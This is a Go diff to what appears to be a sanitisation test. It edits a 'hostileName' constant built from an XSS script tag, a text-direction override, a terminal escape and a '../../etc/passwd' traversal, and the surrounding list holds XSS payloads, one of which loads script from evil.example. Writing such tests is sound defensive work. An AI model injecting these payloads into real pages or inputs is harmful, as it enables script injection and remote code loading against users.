@@ -19,7 +19,7 @@ type attack struct {
 }
 
 // hostileName is the name of a run that wants to be more than a name.
-const hostileName = "\"><script>document.title='owned';alert(15)</script>\u202e\x1b[2J ../../etc/passwd"
+const hostileName = "\"><script>alert(15)</script>\u202e\x1b[2J ../../etc/passwd"
 
 var attacks = []attack{
 	{name: "script", pieces: []string{"<script>document.title='owned';alert(1)</script>", "<img src=/owned onerror=alert(2)>", "<svg onload=alert(3)>", "</pre></td></table><script src=//evil.example/x.js></script>"}},
